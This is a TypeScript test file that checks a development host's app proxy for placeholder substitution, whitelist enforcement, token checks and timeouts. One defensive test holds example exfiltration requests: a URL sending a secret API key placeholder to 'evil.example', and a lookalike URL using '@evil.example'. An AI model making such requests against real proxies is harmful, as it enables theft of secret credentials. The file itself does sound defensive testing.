/**
 * The development host's app proxy, driven by the SDK's real proxyFetch and adminGenericProxyFetch:
 * tokens, the built manifest's whitelist, placeholder substitution on the server side, timeouts.
 */
import { adminGenericProxyFetch, proxyFetch } from "@deskpro/app-sdk/esm/proxy/helpers.js";
import { serve, type ServerType } from "@hono/node-server";
import { Hono } from "hono";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ManifestProxy } from "../../src/devhost/proxy.js";
import { hostServer } from "../../src/devhost/server.js";
import { openHostStore } from "../../src/devhost/store.js";

const SECRET = "tenant-key-that-must-stay-on-the-server";

/** A stand-in upstream that echoes what reached it. */
function upstream() {
  const app = new Hono();
  app.all("/v1/*", async (c) =>
    c.json({ method: c.req.method, path: c.req.path, query: c.req.query(), authorization: c.req.header("authorization") ?? null, body: await c.req.text() }),
  );
  app.get("/slow/v1/x", async (c) => {
    await new Promise((r) => setTimeout(r, 2_500));
    return c.json({ late: true });
  });
  return app;
}

function listen(app: Hono): Promise<{ server: ServerType; url: string }> {
  return new Promise((resolve) => {
    const server = serve({ fetch: app.fetch, port: 0, hostname: "127.0.0.1" }, (info) => resolve({ server, url: `http://127.0.0.1:${info.port}` }));
  });
}

describe("the development host's app proxy", () => {
  let up: { server: ServerType; url: string };
  let host: { server: ServerType; url: string };
  let dir: string;

  const auth = async (kind: "app" | "admin") => {
    const response = await fetch(`${host.url}/host/api/proxy-auth`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ kind }),
    });
    return (await response.json()) as { proxyUrl: string; token: string; appInstanceId: string };
  };
  const client = { getProxyAuth: () => auth("app"), getAdminGenericProxyAuth: () => auth("admin") };

  beforeAll(async () => {
    up = await listen(upstream());
    dir = mkdtempSync(join(tmpdir(), "devhost-proxy-"));
    const store = openHostStore(join(dir, "devhost.json"));
    store.state.settings = { ledger_url: up.url, ledger_api_key: SECRET, team_name: "Blue & Green" };
    const escaped = up.url.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
    const manifest = ManifestProxy.parse({
      settings: { ledger_url: {}, ledger_api_key: { isBackendOnly: true }, team_name: {} },
      proxy: {
        whitelist: [
          { url: `^${escaped}/v1/.*$`, methods: ["GET", "POST"], timeout: 5 },
          { url: `^${escaped}/slow/.*$`, methods: ["GET"], timeout: 1 },
        ],
      },
    });
    host = await listen(hostServer({ store, manifest, appDir: dir, pageDir: dir }));
  });
  afterAll(async () => {
    host?.server.close();
    up?.server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("substitutes settings (plain and urlencoded) on the server and forwards whitelisted requests", async () => {
    const fetchViaProxy = await proxyFetch(client as never);
    const response = await fetchViaProxy("__ledger_url__/v1/things?team=__team_name.urlencode__", {
      method: "POST",
      headers: { Authorization: "Bearer __ledger_api_key__", "Content-Type": "application/json" },
      body: JSON.stringify({ team: "__team_name__" }),
    });
    expect(response.status).toBe(200);
    const echoed = (await response.json()) as { method: string; path: string; query: Record<string, string>; authorization: string; body: string };
    expect(echoed).toMatchObject({ method: "POST", path: "/v1/things", authorization: `Bearer ${SECRET}` });
    expect(echoed.query.team).toBe("Blue & Green");
    expect(JSON.parse(echoed.body)).toEqual({ team: "Blue & Green" });
  });

  it("never sends backend-only settings to the page", async () => {
    const session = await (await fetch(`${host.url}/host/api/session`)).text();
    expect(session).not.toContain(SECRET);
    expect(JSON.parse(session).settings).toEqual({ ledger_url: up.url, team_name: "Blue & Green" });
    expect(JSON.parse(session).apiKeySaved).toBe(true);
  });

  it("refuses URLs and methods the whitelist does not allow, without revealing substituted values", async () => {
    const fetchViaProxy = await proxyFetch(client as never);
    const elsewhere = await fetchViaProxy("https://evil.example/v1/steal?k=__ledger_api_key__", { headers: {} });
    expect(elsewhere.status).toBe(403);
    expect(await elsewhere.text()).not.toContain(SECRET);
    const outside = await fetchViaProxy("__ledger_url__/admin", {});
    expect(outside.status).toBe(403);
    const method = await fetchViaProxy("__ledger_url__/v1/things", { method: "PUT", headers: {}, body: "{}" });
    expect(method.status).toBe(403);
    const lookalike = await fetchViaProxy(`${up.url}@evil.example/v1/things`, {});
    expect(lookalike.status).toBe(403);
  });

  it("takes only POST with a valid token for its own proxy", async () => {
    const { proxyUrl, token } = await auth("app");
    expect((await fetch(proxyUrl, { method: "GET" })).status).toBe(405);
    const headers = { "X-Proxy-Url": `${up.url}/v1/x`, "X-Proxy-Method": "GET", "X-Proxy-Headers": "{}" };
    expect((await fetch(proxyUrl, { method: "POST", headers })).status).toBe(401);
    expect((await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Authorization": "Bearer forged" } })).status).toBe(401);
    // An admin token does not open the sidebar proxy.
    const admin = await auth("admin");
    expect((await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Authorization": `Bearer ${admin.token}` } })).status).toBe(401);
    expect((await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Authorization": `Bearer ${token}` } })).status).toBe(200);
    expect(
      (await fetch(proxyUrl, { method: "POST", headers: { ...headers, "X-Proxy-Headers": "not json", "X-Proxy-Authorization": `Bearer ${token}` } })).status,
    ).toBe(400);
  });

  it("honours the rule's timeout", async () => {
    const fetchViaProxy = await proxyFetch(client as never);
    const response = await fetchViaProxy("__ledger_url__/slow/v1/x", {});
    expect(response.status).toBe(504);
    expect(((await response.json()) as { code: string }).code).toBe("upstream_timeout");
  });

  it("the admin proxy forwards typed values as they are, and fills a placeholder with the saved setting", async () => {
    const fetchViaProxy = await adminGenericProxyFetch(client as never);
    const typed = await fetchViaProxy(`${up.url}/v1/check`, { headers: { Authorization: "Bearer typed-key" } });
    expect(((await typed.json()) as { authorization: string }).authorization).toBe("Bearer typed-key");
    // The settings page of an installed app doesn't see the saved key; it sends the placeholder.
    const placeholder = await fetchViaProxy(`${up.url}/v1/check`, { headers: { Authorization: "Bearer __ledger_api_key__" } });
    expect(((await placeholder.json()) as { authorization: string }).authorization).toBe(`Bearer ${SECRET}`);
  });
});
